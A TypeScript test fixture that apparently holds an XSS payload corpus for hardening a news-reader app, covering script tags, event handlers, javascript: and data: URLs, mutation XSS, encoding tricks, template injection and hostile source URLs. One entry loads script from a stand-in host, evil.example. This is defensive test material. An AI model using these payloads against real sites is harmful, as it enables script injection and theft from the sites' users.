/**
 * The XSS payload corpus of the hostile-input issue: strings that would run code if any layer
 * (reader, JSON, React, vis-timeline, URL state) ever treated text as markup or as a URL. Every
 * payload that could run announces itself by setting `__xss` on the window (or the top window)
 * or by opening a dialog, so a spec only has to watch those two signals.
 *
 * Written for this project; none of them targets a particular article.
 */
export interface Payload {
  /** Short stable name, used in test titles and file names. */
  id: string
  text: string
}

const ZWSP = '\u200b'
const RLO = '\u202e'
const LRI = '\u2066'
const PDI = '\u2069'

export const PAYLOADS: readonly Payload[] = [
  // Script elements, plain and disguised.
  { id: 'script', text: '<script>window.__xss=1</script>' },
  { id: 'script-src', text: '<script src="//evil.example/x.js"></script>' },
  { id: 'script-upper', text: '<SCRIPT>top.__xss=1</SCRIPT>' },
  { id: 'script-split', text: '<scr<script>ipt>window.__xss=1</scr</script>ipt>' },
  { id: 'script-double-lt', text: '<<script>script>alert(1)<</script>/script>' },
  { id: 'script-close-text', text: '</script><script>window.__xss=1</script>' },
  { id: 'textarea-break', text: '</textarea><script>alert(1)</script>' },
  { id: 'title-break', text: '</title><script>window.__xss=1</script>' },
  { id: 'noscript-break', text: '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">' },
  { id: 'template-script', text: '<template><script>alert(1)</script></template>' },
  // Event-handler attributes.
  { id: 'img-onerror', text: '<img src=x onerror=alert(1)>' },
  { id: 'img-onerror-quoted', text: '<img src="x" onerror="window.__xss=1">' },
  { id: 'img-slashes', text: '<img/src=x/onerror=window.__xss=1>' },
  { id: 'img-entity-parens', text: '<img src=x onerror=alert&#40;1&#41;>' },
  { id: 'img-unclosed', text: '<img src=x onerror=alert(1)//' },
  { id: 'svg-onload', text: '<svg onload=alert(1)>' },
  { id: 'svg-slash-onload', text: '<svg/onload=window.__xss=1>' },
  { id: 'body-onload', text: '<body onload=window.__xss=1>' },
  { id: 'details-ontoggle', text: '<details open ontoggle=window.__xss=1>' },
  { id: 'input-onfocus', text: '<input autofocus onfocus=window.__xss=1>' },
  { id: 'video-source', text: '<video><source onerror="window.__xss=1"></video>' },
  { id: 'marquee-onstart', text: '<marquee onstart=window.__xss=1>新闻</marquee>' },
  { id: 'custom-onclick', text: '<x-news onclick=window.__xss=1>点我</x-news>' },
  { id: 'attr-break-double', text: '"><img src=x onerror=window.__xss=1>' },
  { id: 'attr-break-single', text: "'><img src=x onerror=alert(1)>" },
  { id: 'attr-break-unquoted', text: ' onmouseover=window.__xss=1 x=' },
  // javascript:, data:, vbscript: URLs.
  { id: 'a-javascript', text: '<a href="javascript:window.__xss=1">原文</a>' },
  { id: 'a-javascript-case', text: '<a href="JaVaScRiPt:alert(1)">原文</a>' },
  { id: 'a-javascript-entity', text: '<a href="&#106;avascript:alert(1)">原文</a>' },
  { id: 'a-javascript-tab', text: '<a href="java&#x09;script:window.__xss=1">原文</a>' },
  { id: 'a-javascript-ctrl', text: '<a href="\u0001javascript:alert(1)">原文</a>' },
  { id: 'a-data-html', text: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">原文</a>' },
  { id: 'a-vbscript', text: '<a href="vbscript:msgbox(1)">原文</a>' },
  { id: 'iframe-javascript', text: '<iframe src="javascript:top.__xss=1"></iframe>' },
  { id: 'iframe-srcdoc', text: '<iframe srcdoc="<script>top.__xss=1</script>"></iframe>' },
  { id: 'object-data', text: '<object data="javascript:window.__xss=1"></object>' },
  { id: 'embed-data', text: '<embed src="data:text/html,<script>top.__xss=1</script>">' },
  { id: 'form-action', text: '<form action="javascript:alert(1)"><button>提交</button></form>' },
  { id: 'base-href', text: '<base href="javascript:alert(1)//">' },
  { id: 'meta-refresh', text: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { id: 'bare-javascript', text: 'javascript:window.__xss=1' },
  { id: 'bare-data', text: 'data:text/html,<script>alert(1)</script>' },
  // SVG and MathML namespaces (mutation XSS).
  { id: 'svg-script', text: '<svg><script>window.__xss=1</script></svg>' },
  { id: 'svg-animate', text: '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>' },
  { id: 'svg-xlink', text: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">点</text></a></svg>' },
  { id: 'math-href', text: '<math href="javascript:alert(1)">公式</math>' },
  { id: 'math-mglyph', text: '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>' },
  // Broken markup and comments.
  { id: 'comment-break', text: '<!--<img src="--><img src=x onerror=window.__xss=1//">' },
  { id: 'cdata', text: '<![CDATA[<script>alert(1)</script>]]>' },
  { id: 'unclosed-attr', text: '<a href="https://example.org/ onclick=alert(1)' },
  // Entities and encodings.
  { id: 'entity-lt', text: '&lt;script&gt;window.__xss=1&lt;/script&gt;' },
  { id: 'entity-decimal', text: '&#60;img src=x onerror=alert(1)&#62;' },
  { id: 'js-escape', text: '\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e' },
  { id: 'percent', text: '%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E' },
  { id: 'utf7', text: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
  { id: 'fullwidth', text: '＜script＞alert(1)＜/script＞' },
  // Template syntaxes.
  { id: 'template-literal', text: '${window.__xss=1}' },
  { id: 'backtick', text: '`${alert(1)}`' },
  { id: 'mustache', text: "{{constructor.constructor('window.__xss=1')()}}" },
  { id: 'mustache-math', text: '{{7*7}}' },
  { id: 'erb', text: '<%= alert(1) %>' },
  // CSS.
  { id: 'css-expression', text: '<div style="width:expression(alert(1))">样式</div>' },
  { id: 'css-url', text: '<div style="background:url(javascript:alert(1))">样式</div>' },
  { id: 'style-import', text: "<style>@import 'javascript:alert(1)';</style>" },
  // Invisible and bidirectional controls.
  { id: 'zero-width', text: `<img src=x on${ZWSP}error=alert(1)>` },
  { id: 'rtl-override', text: `${RLO}1(trela)=rorreno x=crs gmi<` },
  { id: 'bidi-isolate', text: `${LRI}<script>window.__xss=1</script>${PDI}` },
  // Object keys that pollute prototypes when used as map keys.
  { id: 'proto', text: '__proto__' },
  { id: 'constructor', text: 'constructor' },
  // Targets our own stack: vis-timeline item markup.
  { id: 'vis-item', text: '<div class="vis-item-content"><img src=x onerror=window.__xss=1></div>' },
]

/** Source URLs for line 2 of a dump: only the http(s) ones may ever become a link. */
export const HOSTILE_URLS: readonly string[] = [
  'javascript:window.__xss=1',
  'JAVASCRIPT:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  'https://www.rfi.fr/cn/x"><script>window.__xss=1</script>',
  "https://www.rfi.fr/cn/x?a='onmouseover='alert(1)",
  'https://www.rfi.fr/cn/%3Cscript%3Ealert(1)%3C/script%3E',
]

/** A payload as one line: header lines of a dump cannot hold line breaks. */
export function oneLine(text: string): string {
  return text.replace(/[\r\n]+/g, ' ')
}

/** HTML-escapes text so that a reader must show it literally. */
export function escapeHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;')
}
